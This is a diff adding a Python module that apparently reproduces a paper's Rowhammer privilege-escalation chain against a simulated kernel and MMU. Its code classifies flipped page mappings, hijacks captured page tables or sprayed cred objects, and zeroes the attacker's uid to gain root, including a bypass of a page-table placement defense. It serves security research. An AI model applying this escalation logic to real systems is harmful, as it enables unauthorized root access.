@@ -1,0 +1,319 @@
+"""From one bit flip to root (Sections IV-F and IV-G3).
+
+A frame-bit flip in a victim L1PTE silently remaps one sprayed virtual
+page.  The scan finds it; this module decides what the attacker gained:
+
+* **L1PT capture** — the newly-mapped frame is another sprayed Level-1
+  page table (recognisable by its PTE pattern at the spray's entry
+  indices).  Writing entries through the captured page gives an
+  arbitrary physical-mapping primitive; the attacker locates its own
+  ``struct cred`` and zeroes the uid (Figure 7's escalation).
+* **cred capture** — under CTA a corrupted L1PTE can only point *down*,
+  so L1PT capture is impossible; but the frame may land in a sprayed
+  kernel cred slab, recognisable by the cred magic — the paper's CTA
+  bypass.
+* **junk** — the frame is uninteresting; keep hammering.
+"""
+
+from repro.core.spray import TARGET_PAGE_INDEX
+from repro.errors import SegmentationFault
+from repro.kernel.cred import CRED_MAGIC, CRED_SIZE, CREDS_PER_PAGE
+from repro.mmu.pte import looks_like_pte, make_pte
+from repro.params import PTES_PER_TABLE
+
+#: Classification results for a captured page.
+CAPTURE_L1PT = "l1pt"
+CAPTURE_CRED = "cred"
+CAPTURE_JUNK = "junk"
+
+
+class EscalationOutcome:
+    """What privilege-escalation attempts achieved so far."""
+
+    def __init__(self):
+        self.success = False
+        self.method = None
+        self.flips_observed = 0
+        self.captures = {CAPTURE_L1PT: 0, CAPTURE_CRED: 0, CAPTURE_JUNK: 0}
+        self.details = []
+        #: pid whose cred was rewritten to root (attacker or a child).
+        self.rooted_pid = None
+
+    def note(self, message):
+        self.details.append(message)
+
+    def __repr__(self):
+        return "EscalationOutcome(success=%s, method=%s, flips=%d)" % (
+            self.success,
+            self.method,
+            self.flips_observed,
+        )
+
+
+class PrivilegeEscalator:
+    """Turns spray mismatches into privilege escalation attempts."""
+
+    def __init__(self, attacker, spray, tlb_builder, tlb_set_size, max_probe_frames=4096):
+        self.attacker = attacker
+        self.spray = spray
+        self.tlb_builder = tlb_builder
+        self.tlb_set_size = tlb_set_size
+        self.max_probe_frames = max_probe_frames
+        # Mismatches persist across scans; process each page only once.
+        self._seen = set()
+        # Slots whose tables the escalation clobbered on purpose.
+        self._sacrificed = set()
+
+    # -- classification ---------------------------------------------------
+
+    #: Words sampled when testing a captured page for the L1PT pattern.
+    PTE_SAMPLE_WORDS = 8
+
+    def classify_capture(self, vaddr):
+        """Decide what kind of page a remapped VA now exposes.
+
+        A captured sprayed L1PT is fully populated, so a handful of
+        sampled words all look like PTEs; cred and user pages do not.
+        """
+        read = self.attacker.read
+        pte_like = 0
+        for k in range(self.PTE_SAMPLE_WORDS):
+            word = read(vaddr + (TARGET_PAGE_INDEX + k) * 8)
+            if looks_like_pte(word):
+                pte_like += 1
+        if pte_like >= self.PTE_SAMPLE_WORDS - 1:
+            return CAPTURE_L1PT
+        if self._find_cred_slots(vaddr):
+            return CAPTURE_CRED
+        return CAPTURE_JUNK
+
+    def _find_cred_slots(self, vaddr):
+        """Offsets of cred objects within the captured page."""
+        read = self.attacker.read
+        slots = []
+        for index in range(CREDS_PER_PAGE):
+            if read(vaddr + index * CRED_SIZE) == CRED_MAGIC:
+                slots.append(index * CRED_SIZE)
+        return slots
+
+    # -- CTA-style escalation: the captured page holds creds --------------
+
+    def escalate_via_cred_page(self, vaddr, outcome):
+        """Rewrite the uid of a family cred found in the captured page.
+
+        Any cred with the attacker's uid belongs to one of its sprayed
+        children; zeroing it makes that child root (the child then acts
+        for the attacker).  The rewritten pid is recorded so evaluation
+        code can verify against kernel ground truth.
+        """
+        attacker = self.attacker
+        my_uid = attacker.getuid()
+        for offset in self._find_cred_slots(vaddr):
+            if attacker.read(vaddr + offset + 8) == my_uid:
+                pid = attacker.read(vaddr + offset + 24)
+                attacker.write(vaddr + offset + 8, 0)
+                if attacker.read(vaddr + offset + 8) != 0:
+                    continue
+                outcome.rooted_pid = pid
+                outcome.note(
+                    "rewrote cred of pid %d (offset 0x%x) to uid 0" % (pid, offset)
+                )
+                return True
+        return False
+
+    # -- stock/CATT escalation: the captured page is an L1PT ---------------
+
+    def escalate_via_l1pt(self, captured_va, outcome):
+        """Figure 7: use a captured L1PT as an arbitrary-mapping primitive.
+
+        1. Learn which 2 MiB region of our own address space the
+           captured table serves — by rescanning the spray after a probe
+           write (the paper's "modify ... and check for further
+           changes") when the table has the spray's fully-populated
+           signature, or by matching its present-entry pattern against
+           our own mappings otherwise (placement defenses concentrate
+           *all* page tables, so captures often serve non-spray
+           regions).
+        2. Walk physical frames through the served mapping until the
+           attacker's own cred page appears; zero the uid.
+        """
+        present = self._present_entries(captured_va)
+        if len(present) == PTES_PER_TABLE:
+            window_va = self._discover_served_slot(captured_va, outcome)
+            indices = list(range(PTES_PER_TABLE))
+        else:
+            window_va, entry_index = self._discover_sparse_region(
+                captured_va, present, outcome
+            )
+            indices = sorted(present)
+        if window_va is None:
+            return False
+        return self._scan_frames_for_cred(
+            captured_va, window_va & ~0x1FFFFF, indices, outcome
+        )
+
+    def _present_entries(self, captured_va):
+        """Indices of present-looking entries in the captured table."""
+        read = self.attacker.read
+        return {
+            index
+            for index in range(PTES_PER_TABLE)
+            if read(captured_va + index * 8) & 1
+        }
+
+    def _write_captured_pte(self, captured_va, frame, entry_index=TARGET_PAGE_INDEX):
+        """Point one entry of the captured table at ``frame``."""
+        self.attacker.write(captured_va + entry_index * 8, make_pte(frame))
+
+    def _discover_sparse_region(self, captured_va, present, outcome):
+        """Match a sparsely-populated captured table to one of our regions.
+
+        The attacker knows its own virtual layout, so the set of
+        populated page indices within a 2 MiB region is a fingerprint.
+        Ambiguity is resolved with a clear-and-heal probe: zero one
+        entry, touch the candidate page — only the truly served page
+        faults and gets healed by the kernel, rewriting the entry.
+        """
+        if not present:
+            outcome.note("captured table has no present entries")
+            return None, None
+        attacker = self.attacker
+        space = attacker.process.address_space
+        regions = {}
+        for page_va, frame in space.populated.items():
+            if frame is None:
+                continue
+            regions.setdefault(page_va >> 21, set()).add((page_va >> 12) & 511)
+        matches = [
+            region for region, indices in regions.items() if indices == present
+        ]
+        if not matches:
+            outcome.note("captured table matches none of our regions")
+            return None, None
+        entry_index = next(iter(present))
+        for region in matches:
+            candidate_va = (region << 21) | (entry_index << 12)
+            if candidate_va == (captured_va & ~0xFFF):
+                continue
+            attacker.write(captured_va + entry_index * 8, 0)
+            for page in self.tlb_builder.build(candidate_va, self.tlb_set_size):
+                attacker.touch(page)
+            try:
+                attacker.touch(candidate_va)
+            except SegmentationFault:
+                continue
+            if attacker.read(captured_va + entry_index * 8) & 1:
+                outcome.note(
+                    "captured L1PT serves region 0x%x (entry %d)"
+                    % (region << 21, entry_index)
+                )
+                return candidate_va, entry_index
+        outcome.note("captured table region could not be confirmed")
+        return None, None
+
+    def _discover_served_slot(self, captured_va, outcome):
+        """Find the sprayed VA whose mapping the captured L1PT controls."""
+        attacker = self.attacker
+        spray = self.spray
+        # Point the clobbered entry somewhere recognisably wrong; frame 1
+        # is firmware-reserved scratch that never holds a spray marker.
+        probe_frame = 1
+        self._write_captured_pte(captured_va, probe_frame)
+        # One full-TLB sweep clears every stale spray translation at
+        # once; per-slot eviction sets would cost far more.
+        for page in self.tlb_builder.build_flood():
+            attacker.touch(page)
+        for slot in range(spray.slots):
+            va = spray.page_va(slot, TARGET_PAGE_INDEX)
+            if va == captured_va:
+                continue
+            if attacker.read(va) != spray.expected_marker(slot, TARGET_PAGE_INDEX):
+                outcome.note("captured L1PT serves spray slot %d" % slot)
+                self._sacrificed.add(slot)
+                return va
+        outcome.note("captured L1PT serves no sprayed slot (likely unsprayed)")
+        return None
+
+    def _scan_frames_for_cred(self, captured_va, region_base, indices, outcome):
+        """Map frames through the served region until our cred shows.
+
+        Probes *rotate* across the region's page indices: every probe
+        rewrites a different entry of the captured table and reads a
+        different virtual page, so a stale TLB entry can never mask a
+        probe (the same VA is not reused until hundreds of churning
+        accesses later).  One flood clears pre-existing translations.
+        """
+        attacker = self.attacker
+        my_uid = attacker.getuid()
+        my_pid = attacker.process.pid
+        captured_page_index = (captured_va >> 12) & 0x1FF
+        rotation = [k for k in indices if k != captured_page_index]
+        if not rotation:
+            outcome.note("captured table has no usable probe entries")
+            return False
+        for page in self.tlb_builder.build_flood():
+            attacker.touch(page)
+        # Short rotations (sparse regions) reuse VAs quickly enough for
+        # stale TLB entries to mask probes; sweep an eviction set per
+        # probe in that case (the long spray rotation does not need it).
+        explicit_evict = len(rotation) < 64
+        for frame in range(self.max_probe_frames):
+            entry_index = rotation[frame % len(rotation)]
+            self._write_captured_pte(captured_va, frame, entry_index)
+            window_va = region_base | (entry_index << 12)
+            if explicit_evict:
+                for page in self.tlb_builder.build(window_va, self.tlb_set_size):
+                    attacker.touch(page)
+            if attacker.read(window_va) != CRED_MAGIC:
+                continue
+            for index in range(CREDS_PER_PAGE):
+                base = window_va + index * CRED_SIZE
+                if attacker.read(base) != CRED_MAGIC:
+                    continue
+                if (
+                    attacker.read(base + 8) == my_uid
+                    and attacker.read(base + 24) == my_pid
+                ):
+                    attacker.write(base + 8, 0)
+                    outcome.note(
+                        "own cred found in frame %d; uid rewritten" % frame
+                    )
+                    return True
+        outcome.note("frame scan exhausted without finding own cred")
+        return False
+
+    # -- entry point --------------------------------------------------------
+
+    def process_mismatches(self, mismatches, outcome):
+        """Handle scan results; returns True once escalated."""
+        attacker = self.attacker
+        for mismatch in mismatches:
+            if mismatch.slot in self._sacrificed:
+                continue  # collateral of our own PTE rewrites
+            key = (mismatch.slot, mismatch.page)
+            if key in self._seen:
+                continue  # already handled in an earlier scan
+            self._seen.add(key)
+            outcome.flips_observed += 1
+            if mismatch.value is None:
+                outcome.captures[CAPTURE_JUNK] += 1
+                continue  # the flip killed the slot outright
+            kind = self.classify_capture(mismatch.vaddr)
+            outcome.captures[kind] += 1
+            if kind == CAPTURE_L1PT:
+                if self.escalate_via_l1pt(mismatch.vaddr, outcome):
+                    # The l1pt path rewrote the attacker's *own* cred;
+                    # the kernel must now see it as root.
+                    if attacker.getuid() == 0:
+                        outcome.success = True
+                        outcome.method = CAPTURE_L1PT
+                        outcome.rooted_pid = attacker.process.pid
+                        return True
+            elif kind == CAPTURE_CRED:
+                if self.escalate_via_cred_page(mismatch.vaddr, outcome):
+                    # A family process's cred was rewritten; evaluation
+                    # verifies the pid against kernel ground truth.
+                    outcome.success = True
+                    outcome.method = CAPTURE_CRED
+                    return True
+        return False
